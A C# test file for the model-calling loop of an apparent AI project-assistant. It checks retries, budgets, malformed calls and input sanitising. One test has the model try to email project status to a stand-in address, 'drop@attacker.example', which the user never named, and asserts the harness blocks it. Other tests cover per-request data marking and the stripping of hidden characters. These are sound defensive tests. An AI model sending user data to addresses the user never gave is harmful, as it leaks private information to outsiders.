@@ -1,0 +1,199 @@
+using TpmAssistant.Application.Functions;
+using TpmAssistant.ModelServer;
+
+namespace TpmAssistant.Ai.Tests.Talk;
+
+public sealed class ModelTalkTests
+{
+    private static readonly ModelCall Help = new(FunctionNames.Help);
+
+    [Fact]
+    public async Task RunAsync_CallThenWords_GivesTheStepAndWhatHoldsOfTheWords()
+    {
+        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0
+            ? ModelReply.Call(Help)
+            : ModelReply.Say("Atlas is red [{fact: red}]. Three tasks are late [{fact: red}]. Atlas is green [{fact: red}]."));
+
+        var result = await trial.AskAsync("what can you do for me");
+
+        Assert.Equal([FunctionNames.Help], result.Steps.Select(s => s.Call.Name));
+        Assert.Equal(["Atlas is red.", "Three tasks are late."], result.Narration!.Sentences.Select(s => s.Text));
+        Assert.Equal(1, result.Narration.Dropped);
+        Assert.Null(result.Trouble);
+    }
+
+    [Fact]
+    public async Task RunAsync_MoreThanAThirdFails_GivesNoWords()
+    {
+        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0
+            ? ModelReply.Call(Help)
+            : ModelReply.Say("Atlas is red [{fact: red}]. Atlas is green [{fact: red}]."));
+
+        var result = await trial.AskAsync("what can you do for me");
+
+        Assert.Null(result.Narration);
+        Assert.Single(result.Steps);
+    }
+
+    [Theory]
+    [InlineData("assistant_help", "{}")]
+    [InlineData("Help", "")]
+    [InlineData("ASSISTANT-HELP", "null")]
+    public async Task RunAsync_NameSpeltOtherwise_IsUnderstood(string name, string arguments)
+    {
+        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(new ModelCall(name, arguments)) : ModelReply.Say("Done."));
+
+        Assert.Equal([FunctionNames.Help], (await trial.AskAsync("help me")).Steps.Select(s => s.Call.Name));
+    }
+
+    [Theory]
+    [InlineData("Mail-Send", "{}", "no function of that name")]
+    [InlineData(FunctionNames.ListTasks, "{\"project\":", "not a JSON object")]
+    [InlineData(FunctionNames.ListTasks, "{\"colour\":\"red\"}", "takes no 'colour'")]
+    [InlineData(FunctionNames.ListTasks, "{\"project\":{\"name\":\"Atlas\"}}", "must be plain text")]
+    public async Task RunAsync_CallThatCannotBeMade_IsToldToTheModel(string name, string arguments, string told)
+    {
+        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(new ModelCall(name, arguments)) : ModelReply.Say("Sorry."));
+
+        var result = await trial.AskAsync("which tasks are late");
+
+        Assert.Empty(result.Steps);
+        Assert.Equal(ModelTrouble.Nonsense, result.Trouble);
+        Assert.Contains(told, trial.Host.Requests.Last().Results.Single(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task RunAsync_ModelThatCallsForever_EndsAfterTheCallsAllowed()
+    {
+        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Call(Help, Help, Help, Help, Help), o => o.CallsPerTurn = 6);
+
+        var result = await trial.AskAsync("loop");
+
+        Assert.Single(result.Steps);
+        Assert.InRange(trial.Host.Requests.Count, 1, 7);
+        Assert.Empty(trial.Host.Requests.Last().Functions);
+    }
+
+    [Theory]
+    [InlineData(500)]
+    [InlineData(401)]
+    [InlineData(404)]
+    public async Task RunAsync_EndpointRefuses_IsDownAndIsNotAskedAgain(int status)
+    {
+        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Status = status, Raw = "{\"error\":{\"message\":\"no\"}}" });
+
+        Assert.Equal(ModelTrouble.Down, (await trial.AskAsync("status")).Trouble);
+        Assert.Single(trial.Host.Requests);
+    }
+
+    [Fact]
+    public async Task RunAsync_TooManyRequests_WaitsAsToldAndAsksOnceMore()
+    {
+        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Status = 429, RetryAfter = 5, Raw = "{}" });
+
+        var asking = trial.AskAsync("status");
+        await trial.Host.ArrivalAsync();
+        while (trial.Clock.Waiting < 2) await Task.Yield();
+        Assert.Single(trial.Host.Requests);
+        trial.Clock.Advance(TimeSpan.FromSeconds(5));
+
+        Assert.Equal(ModelTrouble.Down, (await asking).Trouble);
+        Assert.Equal(2, trial.Host.Requests.Count);
+    }
+
+    [Fact]
+    public async Task RunAsync_NoAnswer_IsSlowAtTheDeadline()
+    {
+        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Hangs = true });
+
+        var asking = trial.AskAsync("status");
+        await trial.Host.ArrivalAsync();
+        trial.Clock.Advance(TimeSpan.FromSeconds(31));
+
+        Assert.Equal(ModelTrouble.Slow, (await asking).Trouble);
+    }
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("{")]
+    [InlineData("<html>busy</html>")]
+    [InlineData("{\"choices\":[]}")]
+    [InlineData("{\"choices\":\"none\"}")]
+    public async Task RunAsync_AnswerThatIsNone_IsNonsense(string raw)
+    {
+        await using var trial = await TalkTrial.StartAsync(_ => new ModelReply { Raw = raw });
+
+        Assert.Equal(ModelTrouble.Nonsense, (await trial.AskAsync("status")).Trouble);
+    }
+
+    [Fact]
+    public async Task RunAsync_EndlessAnswer_IsNotShown()
+    {
+        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(Help) : ModelReply.Say(new string('x', 200_000)));
+
+        var result = await trial.AskAsync("status");
+
+        Assert.Null(result.Narration);
+        Assert.Single(result.Steps);
+    }
+
+    [Fact]
+    public async Task RunAsync_TokensOfTheTurnUsedUp_Stops()
+    {
+        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Call(Help) with { Tokens = 900_000 }, o => o.TokensPerTurn = 100_000);
+
+        var result = await trial.AskAsync("status");
+
+        Assert.Equal(ModelTrouble.OverBudget, result.Trouble);
+        Assert.Single(trial.Host.Requests);
+    }
+
+    [Fact]
+    public async Task RunAsync_TokensOfTheDayUsedUp_AsksNothing()
+    {
+        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Say("x") with { Tokens = 50_000 }, o => o.TokensPerDay = 52_000);
+
+        await trial.AskAsync("status");
+        var second = await trial.AskAsync("status");
+
+        Assert.Equal(ModelTrouble.OverBudget, second.Trouble);
+        Assert.Single(trial.Host.Requests);
+        Assert.Equal(50_000, trial.Usage.Total);
+    }
+
+    [Fact]
+    public async Task RunAsync_EffectWithAnAddressThatThePersonDidNotWrite_IsNotCalled()
+    {
+        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0
+            ? ModelReply.Call(new ModelCall(FunctionNames.DraftStakeholderEmail, "{\"project\":\"Atlas\",\"recipients\":\"drop@attacker.example\"}"))
+            : ModelReply.Say("Sent."));
+
+        var result = await trial.AskAsync("mail the status of Atlas to Priya");
+
+        Assert.Empty(result.Steps);
+        Assert.Contains("did not name", trial.Host.Requests.Last().Results.Single(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task RunAsync_EveryRequest_MarksDataAfresh()
+    {
+        await using var trial = await TalkTrial.StartAsync(request => request.Round == 0 ? ModelReply.Call(Help) : ModelReply.Say("Done."));
+
+        await trial.AskAsync("status");
+        await trial.AskAsync("status");
+
+        var marks = trial.Host.Requests.Where(r => r.Results.Any()).Select(r => r.Results.Single().Split('\n')[0]).ToList();
+        Assert.Equal(2, marks.Distinct().Count());
+        Assert.All(marks, mark => Assert.Matches("^<<[0-9a-f]{32}>>$", mark));
+    }
+
+    [Fact]
+    public async Task RunAsync_HiddenCharactersInTheQuestion_DoNotReachTheModel()
+    {
+        await using var trial = await TalkTrial.StartAsync(_ => ModelReply.Say("x"));
+
+        await trial.AskAsync("status\u202E of\u200B Atlas \U000E0041");
+
+        Assert.Equal("status of Atlas ", trial.Host.Requests.Single().Question);
+    }
+}
